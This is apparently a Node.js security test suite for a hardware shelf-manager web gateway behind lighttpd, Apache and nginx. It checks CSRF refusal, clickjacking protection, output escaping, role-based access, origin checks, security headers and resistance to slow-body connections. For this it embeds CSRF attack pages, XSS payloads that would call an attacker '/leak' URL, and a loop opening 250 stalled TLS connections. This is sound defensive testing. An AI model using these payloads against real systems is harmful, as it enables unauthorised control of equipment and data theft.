// The shipped server configurations (lighttpd, Apache, nginx) as an
// attacker meets them: a page on a second loopback origin driving the
// operator's logged-in Chromium, script posted into the pages the gateway
// copies values into, and plain requests without, with wrong and with too
// few credentials. Each server also answers all 33 verbs byte for byte as
// the gateway run directly does.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import tls from 'node:tls';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { request as playwrightRequest } from 'playwright-core';
import { startServer, freePort, repo } from './serve.mjs';
import { launchChromium } from './chromium.mjs';
import { expectDirectAnswers, form, readingVerbs } from './requests.mjs';

const verbs = readFileSync(join(repo, 'deploy/verbs.txt'), 'utf8').split('\n').filter(Boolean);
const policy = "default-src 'none'; style-src 'self'; img-src 'self'; form-action 'self'; frame-src 'self'; "
  + "frame-ancestors 'self'; base-uri 'none'";

// VERBGW_SERVERS=nginx (say) tries one server alone.
const servers = (process.env.VERBGW_SERVERS ?? 'lighttpd,apache,nginx').split(',');
for (const serverName of servers) describe(serverName, () => {
let server, browser, attacker, attackerBase;
const leaks = [];  // requests that reached the attacker's server from a shelf page

// The attacker's site: pages that aim the visitor's browser at the shelf.
function attackerPages(shelf) {
  const pages = {
    '/form': `<form id="f" method="POST" action="${shelf}/cgi-bin/setfanlevel">
      <input name="addr1_0" value="0x72"><input name="id2_0" value="0"><input name="value" value="15"></form>
      <script>document.getElementById('f').submit()</script>`,
    '/img': `<img src="${shelf}/cgi-bin/switchover">`,
    '/fetch': `<script>fetch('${shelf}/cgi-bin/sel', { method: 'POST', mode: 'no-cors', credentials: 'include',
      body: 'req_type_sel=1&addr1_0=0x20', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } })</script>`,
    '/frame': `<iframe src="${shelf}/verbs/sensor.html"></iframe>`,
  };
  return http.createServer((req, res) => {
    if (req.url.startsWith('/leak')) leaks.push(req.url);
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(`<!doctype html><title>attacker</title>${pages[req.url] ?? ''}`);
  });
}

before(async () => {
  server = await startServer({ server: serverName });
  const port = await freePort('127.0.0.2');
  attacker = attackerPages(server.base);
  await new Promise((ok) => attacker.listen(port, '127.0.0.2', ok));
  attackerBase = `http://127.0.0.2:${port}`;
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  attacker?.closeAllConnections();
  attacker?.close();
  await server?.stop();
});

// The logged-in operator's browser, at the index. The attacks are made in
// the worst case, a browser that adds the operator's credentials to every
// request, also to those another site causes.
async function operatorPage() {
  const context = await browser.newContext({ ignoreHTTPSErrors: true,
    extraHTTPHeaders: { Authorization: server.basic('operator') } });
  const page = await context.newPage();
  await page.goto(`${server.base}/verbs/index.html`);
  return page;
}

async function api(role, password) {
  const httpCredentials = role ? { username: role, password: password ?? server.accounts[role].password, send: 'always' }
    : undefined;
  return playwrightRequest.newContext({ ignoreHTTPSErrors: true, httpCredentials, maxRedirects: 0 });
}

// The access log's lines for `path`, once one matches `awaited` (the
// server writes its log in batches).
async function logged(path, awaited = /./) {
  let lines = [];
  for (let i = 0; i < 60 && !lines.some((l) => awaited.test(l)); i++) {
    if (i > 0) await new Promise((r) => setTimeout(r, 100));
    lines = readFileSync(server.accessLog, 'utf8').split('\n').filter((l) => l.includes(` ${path} `));
  }
  return lines;
}

test('another site cannot make the operator\'s browser change the shelf', async () => {
  const page = await operatorPage();
  const before = readFileSync(server.state, 'utf8');
  for (const attack of ['/form', '/img', '/fetch']) {
    await page.goto(`${attackerBase}${attack}`);
    await page.waitForLoadState('networkidle');
  }
  // Every attempt is refused as cross-site before the gateway starts.
  // (Apache logs no user for a request its authorization refused.)
  const refused = / (operator|-) "[A-Z]+ \S+ HTTP\/[\d.]+" 403 /;
  for (const verb of ['setfanlevel', 'switchover', 'sel']) {
    const lines = await logged(`/cgi-bin/${verb}`);
    assert.ok(lines.length > 0 && lines.every((l) => refused.test(l)), `${verb}:\n${lines.join('\n')}`);
  }
  assert.equal(readFileSync(server.state, 'utf8'), before);
  await page.context().close();
});

test('another site cannot frame a form page', async () => {
  const page = await operatorPage();
  await page.goto(`${attackerBase}/frame`);
  await page.waitForLoadState('networkidle');
  const framed = page.frames().filter((f) => f !== page.mainFrame());
  assert.equal(framed.length, 1);
  assert.equal(await framed[0].locator('form').count(), 0);
  await page.context().close();
});

test('script posted into a page is shown, never run', async () => {
  const page = await operatorPage();
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  const steal = `fetch('${attackerBase}/leak');document.title='owned';alert(1)`;
  const attempts = [
    ['shelf', { command: `00<script>${steal}</script>` }, '<script>'],
    ['getlanconfig', { channel: `<img src=x onerror="${steal}">` }, 'onerror='],
    ['activate', { command: '<svg/onload=alert(1)>', addr1_0: '0x82', id2_0: '0' }, '<svg'],  // echoed by the tool
  ];
  for (const [verb, fields, landed] of attempts) {
    // A same-origin post, as the form pages make it.
    await Promise.all([page.waitForURL(`**/cgi-bin/${verb}`), page.evaluate(([action, values]) => {
      const form = document.createElement('form');
      form.method = 'POST';
      form.action = action;
      for (const [name, value] of Object.entries(values)) {
        const input = document.createElement('input');
        input.name = name;
        input.value = value;
        form.append(input);
      }
      document.body.append(form);
      form.submit();
    }, [`/cgi-bin/${verb}`, fields])]);
    await page.waitForLoadState('networkidle');
    assert.ok((await page.content()).includes(landed), `${verb}: the value reached the page unescaped`);
    assert.match(await page.title(), /Shelf Manager/, verb);
    await page.goto(`${server.base}/verbs/index.html`);
  }
  assert.deepEqual(dialogs, []);
  assert.deepEqual(leaks, []);
  await page.context().close();
});

test('every path needs a user, and only an operator changes the shelf', async () => {
  const anonymous = await api();
  assert.equal((await anonymous.get(`${server.base}/verbs/index.html`)).status(), 401);
  assert.equal((await anonymous.get(`${server.base}/verbs/style.css`)).status(), 401);
  assert.equal((await anonymous.post(`${server.base}/cgi-bin/version`, { data: 'x=1' })).status(), 401);
  const wrong = await api('operator', 'not-the-password');
  assert.equal((await wrong.get(`${server.base}/verbs/index.html`)).status(), 401);

  const viewer = await api('viewer');
  const operator = await api('operator');
  const set = { data: 'addr1_0=0x72&id2_0=0&value=9', headers: form };
  assert.equal((await viewer.post(`${server.base}/cgi-bin/setfanlevel`, set)).status(), 403);
  assert.doesNotMatch(readFileSync(server.state, 'utf8'), /^fan\.72\.0 9$/m);
  const done = await operator.post(`${server.base}/cgi-bin/setfanlevel`, set);
  assert.equal(done.status(), 200);
  assert.match(await done.text(), /Set Fan Level to: 9/);
  const audit = /^\S+ 127\.0\.0\.1 operator "POST \/cgi-bin\/setfanlevel HTTP\/[\d.]+" 200 \d+$/;
  assert.ok((await logged('/cgi-bin/setfanlevel', audit)).some((l) => audit.test(l)));

  for (const verb of verbs) {
    const expected = readingVerbs.includes(verb) ? 200 : 403;
    assert.equal((await viewer.get(`${server.base}/cgi-bin/${verb}`)).status(), expected, `viewer on ${verb}`);
  }
  for (const name of ['verbgw', 'sensor/../setfanlevel', 'sensor/x']) {
    assert.equal((await viewer.get(`${server.base}/cgi-bin/${name}`)).status(), 403, `viewer on ${name}`);
  }
  for (const c of [anonymous, wrong, viewer, operator]) await c.dispose();
});

test('the gateway is reached only same-origin, by GET, HEAD or POST, with a small body', async () => {
  const operator = await api('operator');
  const url = `${server.base}/cgi-bin/version`;
  const post = (headers, data = 'x=1') => operator.post(url, { data, headers }).then((r) => r.status());
  assert.equal(await post({ Origin: server.base, 'Sec-Fetch-Site': 'same-origin' }), 200);
  assert.equal(await post({}), 200);  // a typed URL, a tool without fetch metadata
  assert.equal(await post({ Origin: 'https://evil.example' }), 403);
  assert.equal(await post({ Origin: 'null' }), 403);
  assert.equal(await post({ 'Sec-Fetch-Site': 'cross-site' }), 403);
  assert.equal(await post({ 'Sec-Fetch-Site': 'same-site' }), 403);
  assert.equal(await post({}, 'x'.repeat(100 * 1024)), 413);
  for (const method of ['PUT', 'DELETE', 'OPTIONS']) {
    assert.ok([403, 405].includes((await operator.fetch(url, { method, data: 'x=1' })).status()), method);
  }
  assert.equal((await operator.head(url)).status(), 200);
  await operator.dispose();
});

test('every response carries the protective headers; plain HTTP only redirects', async () => {
  const operator = await api('operator');
  const anonymous = await api();
  const responses = {
    page: await operator.get(`${server.base}/verbs/sensor.html`),
    gateway: await operator.get(`${server.base}/cgi-bin/version`),
    refused: await anonymous.get(`${server.base}/verbs/sensor.html`),
  };
  for (const [what, r] of Object.entries(responses)) {
    const h = r.headers();
    assert.equal(h['content-security-policy'], policy, what);
    assert.equal(h['x-content-type-options'], 'nosniff', what);
    assert.equal(h['x-frame-options'], 'SAMEORIGIN', what);
    assert.equal(h['referrer-policy'], 'same-origin', what);
    assert.match(h['strict-transport-security'] ?? '', /max-age=\d{7,}/, what);
    assert.doesNotMatch(h.server ?? '', /\d/, what);  // no version
  }
  assert.equal(responses.gateway.headers()['cache-control'], 'no-store');
  const plain = await anonymous.get(`${server.httpBase}/verbs/sensor.html?x=1`);
  assert.equal(plain.status(), 301);
  assert.equal(plain.headers().location, `${server.base}/verbs/sensor.html?x=1`);
  await operator.dispose();
  await anonymous.dispose();
});

test('the gateway and the tool run unprivileged', { skip: process.getuid() !== 0 && 'only a root start drops privileges' },
  async () => {
    const operator = await api('operator');
    const page = await operator.post(`${server.base}/cgi-bin/activate`,
      { data: 'command=whoami&addr1_0=0x82&id2_0=0', headers: form });
    assert.match(await page.text(), /shelfctl runs as user [1-9]\d*\n/);
    await operator.dispose();
  });

test('all 33 verbs answer as the gateway run directly does', async () => {
  const operator = await api('operator');
  await expectDirectAnswers(server, operator);
  await operator.dispose();
});

test('250 connections that never send their body do not keep out another client', async () => {
  const hung = [];
  try {
    for (let i = 0; i < 250; i++) {
      const socket = tls.connect({ host: '127.0.0.1', port: server.port, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] });
      socket.on('error', () => {});
      socket.on('secureConnect', () => socket.write(
        `POST /cgi-bin/version HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: ${server.basic('viewer')}\r\n`
        + 'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nx='));
      hung.push(socket);
    }
    await new Promise((r) => setTimeout(r, 500));
    const viewer = await api('viewer');
    const page = await viewer.get(`${server.base}/verbs/index.html`, { timeout: 2000 });
    assert.equal(page.status(), 200);
    await viewer.dispose();
  } finally {
    for (const socket of hung) socket.destroy();
  }
});
});
